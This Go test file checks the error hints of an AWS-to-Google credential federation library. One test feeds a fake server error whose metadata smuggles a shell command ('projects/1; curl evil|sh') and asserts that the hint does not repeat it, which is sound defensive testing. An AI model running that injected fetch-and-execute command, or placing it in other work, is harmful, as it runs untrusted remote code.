package awsfed_test

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/awsfed/awsfed-go/awsfed"
	"github.com/awsfed/awsfed-go/awsfed/awsfedtest"
)

var update = flag.Bool("update", false, "write the golden files anew")

// stages are where the faults of an endpoint show.
var stages = map[awsfedtest.Endpoint]awsfed.Stage{
	awsfedtest.EC2Metadata:    awsfed.StageCredentials,
	awsfedtest.GoogleSTS:      awsfed.StageExchange,
	awsfedtest.IAMCredentials: awsfed.StageImpersonation,
}

// transientFaults are those of the catalogue that may pass by themselves.
var transientFaults = map[string]bool{
	"sts-quota": true, "iam-quota": true, "sts-unavailable": true, "iam-unavailable": true, "sts-garbage": true, "iam-garbage": true,
	"sts-truncated": true, "iam-truncated": true, "sts-reset": true, "iam-reset": true, "sts-drop": true, "iam-drop": true,
	"metadata-down": true, "metadata-hop-limit": true, "aws-throttled": true,
}

func TestHintsExplainEveryFault(t *testing.T) {
	clearAWSEnvironment(t)
	golden := readGolden(t, "hints.golden")
	var explained []string
	for _, fault := range awsfedtest.Faults() {
		hidden := fault.Endpoint == "" || strings.HasPrefix(fault.Name, "clock-")
		if !hidden {
			explained = append(explained, fault.Name)
		}
		t.Run(fault.Name, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				cloud := awsfedtest.New(awsfedtest.Options{})
				fault.Inject(cloud)
				ts := newSource(t, cloud)
				_, err := ts.Token()
				time.Sleep(time.Minute) // for refreshes that are still under way
				if hidden {
					assert.NoError(t, err, "the client sees nothing of it, and a wrong clock is corrected")
					return
				}
				var e *awsfed.Error
				require.ErrorAs(t, err, &e)
				assert.Equal(t, stages[fault.Endpoint], e.Stage)
				assert.Equal(t, fault.Status, e.StatusCode)
				if fault.Code != "" {
					assert.Equal(t, fault.Code, e.Code)
				}
				if fault.Endpoint == awsfedtest.IAMCredentials {
					assert.Equal(t, fault.Reason, e.Reason)
				}
				assert.Equal(t, transientFaults[fault.Name], e.Transient, "transient")
				assert.Equal(t, transientFaults[fault.Name], errors.Is(err, awsfed.ErrTransient))
				assert.Equal(t, !e.Transient, errors.Is(err, awsfed.ErrMisconfigured))
				assert.NotEmpty(t, e.Hint, "no fault without a hint")
				golden.compare(t, fault.Name, fmt.Sprintf("%s\n\nstage: %s, HTTP status: %d, code: %s, reason: %s, transient: %t\n\n%s\n",
					fault.Summary, e.Stage, e.StatusCode, e.Code, e.Reason, e.Transient, indent(e.Hint)))
			})
		})
	}
	golden.hasSections(t, explained)
}

func TestHintsTakeNoCommandFromWhatAServerSays(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		cloud := awsfedtest.New(awsfedtest.Options{})
		cloud.Inject(awsfedtest.Status(awsfedtest.IAMCredentials, 403, nil, `{"error":{"code":403,"status":"PERMISSION_DENIED","details":[{"@type":"type.googleapis.com/google.rpc.ErrorInfo","reason":"SERVICE_DISABLED","metadata":{"consumer":"projects/1; curl evil|sh"}}]}}`))
		_, err := newSource(t, cloud).Token()
		var e *awsfed.Error
		require.ErrorAs(t, err, &e)
		assert.NotContains(t, e.Hint, "evil")
		assert.Contains(t, e.Hint, "--project=PROJECT_ID")
	})
}

func TestHintsTellAProxysAnswerFromGoogles(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		cloud := awsfedtest.New(awsfedtest.Options{})
		cloud.Inject(awsfedtest.Status(awsfedtest.IAMCredentials, 403, nil, "<html>Blocked by the web gateway</html>"))
		_, err := newSource(t, cloud).Token()
		var e *awsfed.Error
		require.ErrorAs(t, err, &e)
		assert.Contains(t, e.Hint, "proxy")
		assert.NotContains(t, e.Hint, "add-iam-policy-binding")
	})
}

func TestHintsDoNotBlameAProgramsOwnProviderOnTheChain(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		cloud := awsfedtest.New(awsfedtest.Options{})
		_, err := newSource(t, cloud, func(cfg *awsfed.Config) {
			cfg.Credentials = aws.CredentialsProviderFunc(func(context.Context) (aws.Credentials, error) {
				return aws.Credentials{}, errors.New("no role is associated")
			})
		}).Token()
		var e *awsfed.Error
		require.ErrorAs(t, err, &e)
		assert.Contains(t, e.Hint, "Config.Credentials")
		assert.NotContains(t, e.Hint, "sso")
		time.Sleep(time.Minute)
	})
}

func indent(s string) string { return "    " + strings.ReplaceAll(s, "\n", "\n    ") }

// A golden is a golden file of sections, one for each subtest, so that one alone can be run or
// written anew.
type golden struct {
	path     string
	names    []string
	sections map[string]string
}

func readGolden(t *testing.T, name string) *golden {
	t.Helper()
	g := &golden{path: filepath.Join("testdata", name), sections: make(map[string]string)}
	data, err := os.ReadFile(g.path)
	if !*update {
		require.NoError(t, err)
	}
	for _, section := range strings.Split("\n"+string(data), "\n## ")[1:] {
		name, text, _ := strings.Cut(section, "\n")
		g.names, g.sections[name] = append(g.names, name), strings.TrimRight(text, "\n")+"\n"
	}
	return g
}

// compare holds got against the section of that name.
func (g *golden) compare(t *testing.T, name, got string) {
	t.Helper()
	if *update {
		g.sections[name] = got
	}
	wanted, given := strings.Split(g.sections[name], "\n"), strings.Split(got, "\n")
	for i := range min(len(wanted), len(given)) {
		require.Equal(t, wanted[i], given[i], "line %d of %s in %s; run the test with -update if this is meant to change", i+1, name, g.path)
	}
	require.Len(t, given, len(wanted), "%s in %s", name, g.path)
}

// hasSections asserts that the file has sections of these names, and no others.
func (g *golden) hasSections(t *testing.T, names []string) {
	t.Helper()
	if !*update {
		assert.Equal(t, names, g.names, g.path)
		return
	}
	var file strings.Builder
	for _, name := range names {
		if text, ok := g.sections[name]; ok {
			fmt.Fprintf(&file, "## %s\n%s\n", name, text)
		}
	}
	require.NoError(t, os.WriteFile(g.path, []byte(file.String()), 0o644))
}
